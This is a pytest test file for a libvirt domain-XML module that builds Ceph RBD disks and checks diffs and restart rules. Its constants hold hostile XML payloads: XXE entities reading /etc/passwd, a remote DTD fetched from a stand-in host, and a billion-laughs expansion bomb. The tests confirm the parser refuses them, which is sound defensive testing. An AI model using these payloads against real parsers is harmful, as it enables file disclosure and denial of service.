"""Unit tests for vmconsole.domain.domain_xml: safe parsing, the generated disks, diff and restart rules."""

from __future__ import annotations

import time
import uuid as uuidlib
from collections.abc import Callable
from typing import Any

import pytest
from lxml import etree

from vmconsole.domain import domain_xml
from vmconsole.domain.errors import ValidationError

# The lab's labvm1 domain with its file disk taken out and a cdrom left in, as an operator would give it.
BASE = """<domain type='kvm' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>
  <name>labvm1</name>
  <uuid>6C0B1E6E-1AB0-4C2A-9D3E-000000000001</uuid>
  <memory unit='MiB'>64</memory>
  <vcpu>1</vcpu>
  <os>
    <type arch='x86_64' machine='pc'>hvm</type>
    <boot dev='hd'/>
  </os>
  <devices>
    <emulator>/usr/bin/qemu-system-x86_64</emulator>
    <disk type='file' device='cdrom'>
      <target dev='hdc' bus='ide'/>
      <readonly/>
    </disk>
    <serial type='pty'><target port='0'/></serial>
    <memballoon model='none'/>
  </devices>
  <qemu:commandline>
    <qemu:arg value='-fw_cfg'/>
  </qemu:commandline>
</domain>
"""

MINIMAL = "<domain type='kvm'><memory>65536</memory><devices/></domain>"

SECRET = "0a0b0c0d-0000-4000-8000-000000000001"
NEW_UUID = "11111111-2222-4333-8444-555555555555"
MONITORS = [("10.0.0.1", 6789), ("10.0.0.2", 6789), ("mon3.example", 3300)]

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<domain type='kvm'><name>&xxe;</name><devices/></domain>"""

XXE_EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE domain SYSTEM "file:///etc/passwd">
<domain type='kvm'><name>x</name><devices/></domain>"""

XXE_NETWORK = """<!DOCTYPE domain [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<domain type='kvm'><devices/></domain>"""


def _billion_laughs() -> str:
    """Nine levels of ten-fold entity expansion: 10**9 'lol's if ever expanded."""
    levels = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        previous = f"&lol{level - 1};" if level > 1 else "&lol;"
        levels.append(f'<!ENTITY lol{level} "{previous * 10}">')
    subset = "\n ".join(levels)
    body = "<domain><name>&lol9;</name><devices/></domain>"
    return f'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n {subset}\n]>\n{body}'


BILLION_LAUGHS = _billion_laughs()


def build(base: str = BASE, **overrides: Any) -> str:
    arguments: dict[str, Any] = {
        "name": "vm1",
        "uuid": NEW_UUID,
        "pool": "rbd",
        "namespace": "",
        "system_image": "system_vm1",
        "data_images": [],
        "disk_bus": "virtio",
        "monitors": MONITORS,
        "auth_user": "libvirt",
        "secret_uuid": SECRET,
    }
    arguments.update(overrides)
    return domain_xml.build_domain_xml(base, **arguments)


def rbd_disks(xml_text: str) -> list[etree._Element]:
    root = etree.fromstring(xml_text.encode())
    return [d for d in root.iterfind("devices/disk") if d.get("type") == "network"]


def refused(call: Callable[[], object], field: str, *fragments: str) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        call()
    error = caught.value
    assert error.field == field, f"field {error.field!r} != {field!r}: {error}"
    for fragment in fragments:
        assert fragment in error.message, f"{fragment!r} not in {error.message!r}"
    return error


# --- check_base_xml ----------------------------------------------------------------------------------


def test_check_base_xml_accepts_a_diskless_domain_with_a_cdrom() -> None:
    root = domain_xml.check_base_xml(BASE)
    assert root.tag == "domain"
    assert domain_xml.check_base_xml(MINIMAL.encode()).tag == "domain"


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("<domain><devices></domain>", "not well-formed"),
        ("<domain", "not well-formed"),
        ("", "not well-formed"),
        ("just text", "not well-formed"),
        ("<domain><name>&undefined;</name><devices/></domain>", "not well-formed"),
        ("<network><name>n</name></network>", "root element is <network>"),
        ("<domain xmlns='urn:x'><devices/></domain>", "expected <domain>"),
        ("<domain type='kvm'><name>vm</name></domain>", "no <devices>"),
        ("<domain><os/><os><devices/></os></domain>", "no <devices>"),  # only a direct child counts
        ("<domain><devices/><devices/></domain>", "2 <devices>"),
    ],
)
def test_check_base_xml_refuses_bad_shapes(text: str, fragment: str) -> None:
    refused(lambda: domain_xml.check_base_xml(text), "xml", fragment)


@pytest.mark.parametrize(
    "disk",
    [
        "<disk type='file' device='disk'><source file='/x.qcow2'/><target dev='vda' bus='virtio'/></disk>",
        # No device attribute: libvirt's default kind is a disk.
        "<disk type='file'><source file='/x.qcow2'/><target dev='vda' bus='virtio'/></disk>",
        "<disk type='network' device='disk'><source protocol='rbd' name='rbd/system_old'/><target dev='vda'/></disk>",
    ],
)
def test_check_base_xml_refuses_its_own_disks(disk: str) -> None:
    text = f"<domain type='kvm'><devices>{disk}</devices></domain>"
    refused(lambda: domain_xml.check_base_xml(text), "xml", "1 disk(s)", "'vda'", "remove every", "cdrom")


def test_generated_xml_is_not_a_valid_base() -> None:
    """The stored ``xml`` (with disks) can never be taken for a ``_base_xml`` by mistake."""
    refused(lambda: domain_xml.check_base_xml(build()), "xml", "already has 1 disk(s)")


@pytest.mark.parametrize("hostile", [XXE_FILE, XXE_EXTERNAL_DTD, XXE_NETWORK, BILLION_LAUGHS])
@pytest.mark.parametrize(
    "reader",
    [
        domain_xml.check_base_xml,
        domain_xml.domain_uuid,
        domain_xml.domain_name,
        domain_xml.strip_uuid,
        domain_xml.rbd_disk_images,
        domain_xml.canonical_xml,
        lambda text: domain_xml.xml_diff(MINIMAL, text),
        lambda text: domain_xml.needs_restart(text, MINIMAL),
        lambda text: build(text),
    ],
)
def test_entities_and_external_references_are_never_resolved(hostile: str, reader: Callable[[str], object]) -> None:
    started = time.perf_counter()
    error = refused(lambda: reader(hostile), "xml", "DOCTYPE")
    assert "root:" not in str(error)  # nothing of /etc/passwd
    assert "lollollol" not in str(error)
    assert time.perf_counter() - started < 0.5


def test_hostile_bytes_input_is_refused_too() -> None:
    refused(lambda: domain_xml.check_base_xml(XXE_FILE.encode()), "xml", "DOCTYPE")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_doctype_in_wide_encodings_is_refused(encoding: str) -> None:
    """A byte search for "<!DOCTYPE" misses UTF-16/32; the parsed document is checked too."""
    declaration = f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
    body = XXE_FILE.split("?>", 1)[1]
    data = (declaration + body).encode(encoding)
    for reader in (domain_xml.check_base_xml, domain_xml.domain_name, domain_xml.canonical_xml):
        refused(lambda reader=reader: reader(data), "xml", "DOCTYPE")  # type: ignore[misc]


# --- build_domain_xml: name and UUID -----------------------------------------------------------------


def test_name_is_replaced_and_first() -> None:
    root = etree.fromstring(build(name="prod7").encode())
    names = root.findall("name")
    assert [n.text for n in names] == ["prod7"]
    assert root[0].tag == "name"


def test_name_is_added_when_missing_and_duplicates_dropped() -> None:
    base = "<domain type='kvm'><name>a</name><name>b</name><devices/></domain>"
    assert [n.text for n in etree.fromstring(build(base).encode()).findall("name")] == ["vm1"]
    assert domain_xml.domain_name(build(MINIMAL)) == "vm1"


def test_uuid_of_the_base_is_kept_in_canonical_form() -> None:
    assert domain_xml.domain_uuid(build()) == "6c0b1e6e-1ab0-4c2a-9d3e-000000000001"


@pytest.mark.parametrize(
    "base",
    [
        MINIMAL,
        "<domain type='kvm'><uuid/><devices/></domain>",
        "<domain type='kvm'><uuid>   </uuid><devices/></domain>",
    ],
)
def test_uuid_is_set_when_absent_or_empty(base: str) -> None:
    out = build(base)
    assert domain_xml.domain_uuid(out) == NEW_UUID
    root = etree.fromstring(out.encode())
    assert len(root.findall("uuid")) == 1
    assert [child.tag for child in root][:2] == ["name", "uuid"]


def test_bad_uuids_are_refused() -> None:
    refused(lambda: build(uuid="not-a-uuid"), "uuid", "not a UUID")
    refused(lambda: build(uuid=""), "uuid", "empty")
    bad_base = "<domain type='kvm'><uuid>zzz</uuid><devices/></domain>"
    refused(lambda: build(bad_base), "xml", "not a UUID")


def test_name_with_a_slash_or_control_character_is_refused() -> None:
    refused(lambda: build(name="a/b"), "name", "not allowed")
    refused(lambda: build(name="vm\x1b"), "name", "not allowed")
    refused(lambda: build(name=""), "name", "empty")


# --- build_domain_xml: disks -------------------------------------------------------------------------


def test_rbd_disk_shape() -> None:
    out = build(data_images=["data_vm1_0"])
    disks = rbd_disks(out)
    assert len(disks) == 2
    system = disks[0]
    assert system.get("device") == "disk"
    driver = system.find("driver")
    assert driver is not None
    assert dict(driver.items()) == {"name": "qemu", "type": "raw", "cache": "writeback"}
    auth = system.find("auth")
    assert auth is not None and auth.get("username") == "libvirt"
    secret = system.find("auth/secret")
    assert secret is not None and dict(secret.items()) == {"type": "ceph", "uuid": SECRET}
    source = system.find("source")
    assert source is not None and source.get("protocol") == "rbd" and source.get("name") == "rbd/system_vm1"
    hosts = [(h.get("name"), h.get("port")) for h in source.iterfind("host")]
    assert hosts == [("10.0.0.1", "6789"), ("10.0.0.2", "6789"), ("mon3.example", "3300")]
    target = system.find("target")
    assert target is not None and dict(target.items()) == {"dev": "vda", "bus": "virtio"}
    data_source = disks[1].find("source")
    assert data_source is not None and data_source.get("name") == "rbd/data_vm1_0"
    # Element order inside <disk>, as vm_manager writes it.
    assert [child.tag for child in system] == ["driver", "auth", "source", "target"]


def test_namespace_goes_into_the_source_name() -> None:
    out = build(pool="vms", namespace="site1", data_images=["data_vm1_0"])
    assert domain_xml.rbd_disk_images(out) == ["vms/site1/system_vm1", "vms/site1/data_vm1_0"]


def test_no_monitors_means_no_host_elements() -> None:
    source = rbd_disks(build(monitors=[]))[0].find("source")
    assert source is not None and source.findall("host") == []


def test_auth_is_optional_but_all_or_nothing() -> None:
    out = build(auth_user=None, secret_uuid=None)
    assert rbd_disks(out)[0].find("auth") is None
    refused(lambda: build(auth_user="libvirt", secret_uuid=None), "auth_user", "both")
    refused(lambda: build(auth_user=None, secret_uuid=SECRET), "auth_user", "both")
    refused(lambda: build(secret_uuid="nope"), "secret_uuid", "not a UUID")


def test_device_names_go_past_vdz() -> None:
    data = [f"data_vm1_{i}" for i in range(30)]
    out = build(MINIMAL, data_images=data)
    targets = [d.find("target").get("dev") for d in rbd_disks(out)]  # type: ignore[union-attr]
    assert targets[:3] == ["vda", "vdb", "vdc"]
    assert targets[25] == "vdz"
    assert targets[26] == "vdaa"
    assert targets[27] == "vdab"
    assert targets[-1] == "vdae"
    assert len(set(targets)) == 31
    assert domain_xml.rbd_disk_images(out) == ["rbd/system_vm1", *(f"rbd/{d}" for d in data)]


@pytest.mark.parametrize(
    ("index", "name"),
    [(0, "vda"), (1, "vdb"), (25, "vdz"), (26, "vdaa"), (27, "vdab"), (51, "vdaz"), (52, "vdba"),
     (701, "vdzz"), (702, "vdaaa")],
)  # fmt: skip
def test_device_name_like_the_kernel(index: int, name: str) -> None:
    assert domain_xml.device_name("virtio", index) == name


def test_device_names_are_unique() -> None:
    names = [domain_xml.device_name("scsi", i) for i in range(2000)]
    assert len(set(names)) == 2000


@pytest.mark.parametrize(
    ("bus", "first", "second"),
    [("virtio", "vda", "vdb"), ("sata", "sda", "sdb"), ("scsi", "sda", "sdb"), ("usb", "sda", "sdb"),
     ("ide", "hda", "hdb")],
)  # fmt: skip
def test_device_names_follow_the_bus(bus: str, first: str, second: str) -> None:
    out = build(MINIMAL, disk_bus=bus, data_images=["data_vm1_0"])
    targets = [(d.find("target").get("dev"), d.find("target").get("bus")) for d in rbd_disks(out)]  # type: ignore[union-attr]
    assert targets == [(first, bus), (second, bus)]


def test_targets_taken_by_a_cdrom_are_skipped() -> None:
    cdrom = "<disk device='cdrom'><target dev='sda' bus='sata'/></disk>"
    base = f"<domain type='kvm'><devices>{cdrom}</devices></domain>"
    out = build(base, disk_bus="sata", data_images=["data_vm1_0"])
    targets = [d.find("target").get("dev") for d in rbd_disks(out)]  # type: ignore[union-attr]
    assert targets == ["sdb", "sdc"]
    # BASE's cdrom is on hdc: the ide disks go around it.
    out = build(disk_bus="ide", data_images=["data_vm1_0", "data_vm1_1"])
    assert [d.find("target").get("dev") for d in rbd_disks(out)] == ["hda", "hdb", "hdd"]  # type: ignore[union-attr]


def test_ide_holds_four_drives_at_most() -> None:
    refused(
        lambda: build(MINIMAL, disk_bus="ide", data_images=[f"data_vm1_{i}" for i in range(4)]),
        "disk_bus",
        "at most 4",
        "hda to hdd",
    )
    # The cdrom on hdc counts: 3 disks fit, 4 do not.
    build(disk_bus="ide", data_images=["d0", "d1"])
    refused(lambda: build(disk_bus="ide", data_images=["d0", "d1", "d2"]), "disk_bus", "at most 4")


@pytest.mark.parametrize("bus", ["nvme", "", "VIRTIO", "xen", "sd"])
def test_unknown_bus_is_refused(bus: str) -> None:
    refused(lambda: build(disk_bus=bus), "disk_bus", "unknown disk bus", "virtio")


def test_image_names_are_checked() -> None:
    refused(lambda: build(system_image="rbd/evil"), "system_image", "not allowed")
    refused(lambda: build(data_images=["a@snap"]), "data_images", "not allowed")
    refused(lambda: build(data_images=["system_vm1"]), "data_images", "listed twice")
    refused(lambda: build(data_images=["d", "d"]), "data_images", "listed twice")
    refused(lambda: build(data_images="data_vm1_0"), "data_images", "one string")
    refused(lambda: build(pool=""), "pool", "empty")
    refused(lambda: build(namespace="a/b"), "namespace", "not allowed")


@pytest.mark.parametrize(
    "monitors",
    [
        [("10.0.0.1", 0)],
        [("10.0.0.1", 70000)],
        [("10.0.0.1", "6789")],
        [("10.0.0.1", True)],
        [("", 6789)],
        [("a b", 6789)],
        [["10.0.0.1", 6789]],
        [("10.0.0.1",)],
    ],
)
def test_bad_monitors_are_refused(monitors: list[Any]) -> None:
    refused(lambda: build(monitors=monitors), "monitors")


def test_the_rest_of_the_base_is_kept_and_output_is_pretty() -> None:
    out = build(data_images=["data_vm1_0"])
    root = etree.fromstring(out.encode())
    devices = root.find("devices")
    assert devices is not None
    # Generated disks go after the existing cdrom, before the other devices.
    assert [c.tag for c in devices] == ["emulator", "disk", "disk", "disk", "serial", "memballoon"]
    assert devices[1].get("device") == "cdrom"
    assert root.find("{http://libvirt.org/schemas/domain/qemu/1.0}commandline") is not None
    assert out.endswith("</domain>\n")
    assert "\n  <name>vm1</name>\n" in out
    assert '\n    <disk type="network" device="disk">\n      <driver ' in out


def test_disks_go_first_without_cdrom_or_emulator() -> None:
    base = "<domain type='kvm'><devices><serial type='pty'/></devices></domain>"
    devices = etree.fromstring(build(base).encode()).find("devices")
    assert devices is not None and [c.tag for c in devices] == ["disk", "serial"]


def test_values_with_xml_special_characters_are_escaped_not_injected() -> None:
    out = build(auth_user='libvirt"/><evil', monitors=[("h&x", 6789)])
    disk = rbd_disks(out)[0]
    auth = disk.find("auth")
    host = disk.find("source/host")
    assert auth is not None and auth.get("username") == 'libvirt"/><evil'
    assert host is not None and host.get("name") == "h&x"
    assert etree.fromstring(out.encode()).find(".//evil") is None


# --- reading helpers -----------------------------------------------------------------------------


def test_domain_uuid_and_name() -> None:
    assert domain_xml.domain_uuid(BASE) == "6c0b1e6e-1ab0-4c2a-9d3e-000000000001"
    assert domain_xml.domain_name(BASE) == "labvm1"
    assert domain_xml.domain_uuid(MINIMAL) is None
    assert domain_xml.domain_name(MINIMAL) is None
    assert domain_xml.domain_name("<domain><name>  </name><devices/></domain>") is None
    refused(lambda: domain_xml.domain_uuid("<domain><uuid>xyz</uuid></domain>"), "xml", "not a UUID")


def test_strip_uuid() -> None:
    stripped = domain_xml.strip_uuid(BASE)
    assert domain_xml.domain_uuid(stripped) is None
    assert domain_xml.domain_name(stripped) == "labvm1"
    # Only the domain's own <uuid>: a secret's uuid attribute stays.
    assert SECRET in domain_xml.strip_uuid(build())


def test_new_uuid() -> None:
    first, second = domain_xml.new_uuid(), domain_xml.new_uuid()
    assert first != second
    assert str(uuidlib.UUID(first)) == first
    assert uuidlib.UUID(first).version == 4


def test_rbd_disk_images_ignores_other_disks() -> None:
    text = """<domain><devices>
      <disk type='file' device='disk'><source file='/var/lib/x.qcow2'/></disk>
      <disk type='network' device='disk'><source protocol='iscsi' name='iqn.x/1'/></disk>
      <disk type='network' device='disk'><source protocol='rbd' name='rbd/system_a'/></disk>
      <disk type='network' device='cdrom'><source protocol='rbd' name='rbd/iso'/></disk>
      <disk type='network' device='disk'><source protocol='rbd'/></disk>
    </devices></domain>"""
    assert domain_xml.rbd_disk_images(text) == ["rbd/system_a", "rbd/iso"]
    assert domain_xml.rbd_disk_images(MINIMAL) == []


# --- diff and restart --------------------------------------------------------------------------------

SAME_AS_BASE_OTHER_LAYOUT = """<domain xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0' type='kvm'>
<!-- reformatted by hand -->
<name>labvm1</name><uuid>6C0B1E6E-1AB0-4C2A-9D3E-000000000001</uuid><memory unit='MiB'>64</memory>
<vcpu>1</vcpu><os><type machine='pc' arch='x86_64'>hvm</type><boot dev='hd'/></os>
<devices><emulator>/usr/bin/qemu-system-x86_64</emulator>
<disk device='cdrom' type='file'><target bus='ide' dev='hdc'/><readonly/></disk>
<serial type='pty'><target port='0'/></serial><memballoon model='none'/></devices>
<qemu:commandline><qemu:arg value='-fw_cfg'/></qemu:commandline></domain>"""


def test_xml_diff_ignores_layout_comments_and_attribute_order() -> None:
    assert domain_xml.xml_diff(BASE, SAME_AS_BASE_OTHER_LAYOUT) == []
    assert domain_xml.canonical_xml(BASE) == domain_xml.canonical_xml(SAME_AS_BASE_OTHER_LAYOUT)


def test_xml_diff_shows_the_change() -> None:
    new = BASE.replace("<memory unit='MiB'>64</memory>", "<memory unit='MiB'>128</memory>")
    lines = domain_xml.xml_diff(BASE, new, old_label="vm1 (stored)", new_label="vm1 (edited)")
    assert lines[0] == "--- vm1 (stored)"
    assert lines[1] == "+++ vm1 (edited)"
    assert '-  <memory unit="MiB">64</memory>' in lines
    assert '+  <memory unit="MiB">128</memory>' in lines
    assert not any(line.endswith("\n") for line in lines)


def test_needs_restart() -> None:
    assert domain_xml.needs_restart(BASE, BASE) is False
    assert domain_xml.needs_restart(BASE, SAME_AS_BASE_OTHER_LAYOUT) is False
    described = BASE.replace(
        "<vcpu>1</vcpu>",
        "<title>PLC</title><description>line 3</description>"
        "<metadata><app:x xmlns:app='urn:app'>1</app:x></metadata><vcpu>1</vcpu>",
    )
    assert domain_xml.needs_restart(BASE, described) is False
    assert domain_xml.needs_restart(described, BASE) is False
    assert domain_xml.needs_restart(BASE, BASE.replace("<vcpu>1</vcpu>", "<vcpu>2</vcpu>")) is True
    assert domain_xml.needs_restart(build(), build(data_images=["data_vm1_0"])) is True
    assert domain_xml.needs_restart(build(), build(monitors=MONITORS[:1])) is True
    # A <metadata> below <domain> level is not descriptive: only the domain's own children are.
    nested = BASE.replace("<boot dev='hd'/>", "<boot dev='hd'/><metadata/>")
    assert domain_xml.needs_restart(BASE, nested) is True


def test_detach_local_disks_keeps_the_rest_of_the_domain() -> None:
    xml = (
        "<domain type='kvm'><name>old</name><devices>"
        "<disk type='file' device='disk'><driver name='qemu' type='qcow2'/>"
        "<source file='/var/lib/a.qcow2'/><target dev='vda'/></disk>"
        "<disk type='block' device='disk'><source dev='/dev/vg/b'/><target dev='vdb'/></disk>"
        "<disk type='file' device='cdrom'><target dev='sda'/></disk>"
        "</devices></domain>"
    )
    base, disks = domain_xml.detach_local_disks(xml)
    assert disks == [domain_xml.LocalDisk("/var/lib/a.qcow2", "qcow2"), domain_xml.LocalDisk("/dev/vg/b", None)]
    assert "a.qcow2" not in base and "device='cdrom'" in base.replace('"', "'")
    with pytest.raises(ValidationError) as error:
        domain_xml.detach_local_disks(
            "<domain><devices><disk type='network' device='disk'><target dev='vdc'/></disk></devices></domain>"
        )
    assert error.value.field == "xml" and "vdc" in error.value.message
